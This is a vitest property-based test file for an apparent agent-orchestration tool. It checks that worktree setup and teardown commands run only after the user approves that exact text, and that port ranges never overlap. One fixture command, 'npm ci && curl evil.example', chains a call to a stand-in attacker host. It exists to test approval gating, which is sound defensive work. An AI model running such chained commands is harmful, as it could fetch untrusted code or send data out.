import { expect, it } from 'vitest'
import { pickPorts, type PortRange } from '../../contract/folders/worktree-runs.ts'
import { keysOf, sendCommand } from '../../testkit/factories/factories.ts'
import { Random } from '../../testkit/random.ts'
import { isUnread } from '../step/status.ts'
import { emptyState, usualLimits, type State } from '../step/state.ts'
import type { Event } from '../step/events.ts'
import { initialState, recover } from '../recover.ts'
import { update, type Update } from '../update.ts'
import { MemoryStore } from '../../testkit/memory/store/store.ts'
import type { RunPlan } from './worktree-commands.ts'
import { plannedRun } from './worktrees.ts'

const phases = ['setup', 'teardown'] as const
const commands = ['npm ci', 'make', 'npm ci && curl evil.example', '']

/** One agent in a worktree with random events of user, processes and clock. */
class World {
  state: State = emptyState
  /** Commands that the user has approved. */
  readonly approved = new Set<string>([''])
  readonly #random: Random
  readonly #store = new MemoryStore()
  #now = 0

  constructor(seed: number) {
    this.#random = new Random(seed)
    const worktree = { path: '/w', branch: 'b', repository: '/r', base: 'main', commit: 'c' }
    const setup = plannedRun(this.#plan(), undefined)
    const settings = { model: null, policy: 'hybrid', role: '', permissionMode: 'default' } as const
    this.#apply({
      type: 'agent.created',
      name: keysOf('scout'),
      cwd: '/w',
      ...settings,
      worktree: { ...worktree, setup },
    })
  }

  play(): void {
    if (this.#random.chance(0.05)) {
      this.state = initialState(this.#store.load(), this.state.limits)
      this.#take(recover(this.state, { now: this.#now, seed: this.#random.hex() }))
    } else this.#apply(this.#event())
  }

  get #agent() {
    const [state] = this.state.agents.values()
    if (!state) throw new Error('the agent is gone')
    return state
  }

  #plan(): RunPlan {
    const command = this.#random.pick(commands) ?? ''
    const isApproved = this.approved.has(command)
    const problem = this.#random.chance(0.1) ? 'Bad JSON.' : null
    return { command, from: 'repository', isApproved, problem }
  }

  #event(): Event {
    const { agent, run, frames, turn } = this.#agent
    const of = { agent: agent.id, run }
    const frame = frames.find(isUnread)
    const phase = this.#random.pick(phases) ?? 'setup'
    const command = this.#random.pick(commands) ?? ''
    const n = this.#random.int(0, agent.worktree?.[phase]?.n ?? 0)
    const stopped = this.#random.chance(0.5) ? this.#now : null
    const problem = this.#random.chance(0.5) ? null : ({ kind: 'exit', code: 1 } as const)
    const from = { kind: 'user', via: 'window' } as const
    const message = sendCommand({ from, fromName: 'Mo', to: agent.id, body: 'Go on.' })
    const any: readonly (Event | null)[] = [
      message,
      { type: 'setup.approved', agent: agent.id, command },
      { type: 'setup.skipped', agent: agent.id },
      { type: 'worktree.stopped', agent: agent.id },
      {
        type: 'worktree.planned',
        agent: agent.id,
        phase,
        plan: phase === 'setup' ? this.#plan() : { ...this.#plan(), isApproved: true },
      },
      { type: 'worktree.ended', agent: agent.id, phase, n, problem, output: '' },
      { type: 'limits.changed', limits: { ...usualLimits, stopped } },
      { type: this.#random.chance(0.3) ? 'agent.closed' : 'agent.reopened', agent: agent.id },
      { type: 'agent.restarted', agent: agent.id },
      { type: 'process.exited', ...of, detail: '' },
      frame ? { type: 'frame.started', ...of, frame: frame.id } : null,
      turn
        ? {
            type: 'turn.ended',
            ...of,
            outcome: { kind: 'completed', text: 'Done.' },
            totalCostUsd: 0,
            totalTokens: { input: 0, output: 0, cacheRead: 0, cacheWritten: 0 },
          }
        : null,
    ]
    return this.#random.pick(any.flatMap((one) => one ?? [])) ?? { type: 'clock.ticked' }
  }

  #apply(event: Event): void {
    this.#now += 1000
    const made = update(this.state, event, { now: this.#now, seed: this.#random.hex() })
    const isDone = made.answer?.kind === 'agent'
    if (event.type === 'setup.approved' && isDone) this.approved.add(event.command)
    if (event.type === 'worktree.planned' && isDone && event.phase === 'teardown')
      this.approved.add(event.plan.command)
    this.#take(made)
  }

  #take({ state, effects, rows }: Update): void {
    this.state = state
    this.#store.commit(rows)
    const { setup, teardown } = this.#agent.agent.worktree ?? {}
    const held = [setup, teardown].some((one) => one?.state === 'running' || one?.state === 'waiting')
    const isSetUp = setup?.state === 'done' || setup?.state === 'skipped'
    for (const effect of effects)
      if (effect.do === 'agent.start' || (effect.do === 'agent.write' && effect.how === 'begin'))
        expect({ effect: effect.do, isSetUp, held }).toEqual({
          effect: effect.do,
          isSetUp: true,
          held: false,
        })
    for (const run of [setup, teardown])
      if (run?.state === 'running') expect(this.approved).toContain(run.command)
  }
}

it.each(Array.from({ length: 40 }, (_, seed) => seed + 1))(
  'nothing runs without a yes to exactly that text, and no turn begins before the setup has ended: %i',
  (seed) => {
    const world = new World(seed)
    for (let step = 0; step < 150; step++) world.play()
  },
)

it('ranges of ports never overlap, hold no port that is taken, and are free again', () => {
  const random = new Random(7)
  const used: PortRange[] = []
  for (let step = 0; step < 500; step++) {
    if (used.length > 0 && random.chance(0.3)) used.splice(random.int(0, used.length - 1), 1)
    const count = random.int(1, 100)
    const taken = new Set(Array.from({ length: 5 }, () => random.int(42_000, 44_000)))
    const found = pickPorts({ base: 42_000, count }, used, taken)
    if (found === null) throw new Error('no range is left')
    expect(found.first).toBeGreaterThanOrEqual(42_000)
    for (const one of used)
      expect(found.first + found.count <= one.first || one.first + one.count <= found.first).toBe(true)
    for (const port of taken) expect(port >= found.first && port < found.first + found.count).toBe(false)
    used.push(found)
  }
})

it('ports end where they end', () => {
  expect(pickPorts({ base: 65_530, count: 10 }, [], new Set())).toBeNull()
  expect(pickPorts({ base: 65_530, count: 6 }, [], new Set())).toEqual({ first: 65_530, count: 6 })
})
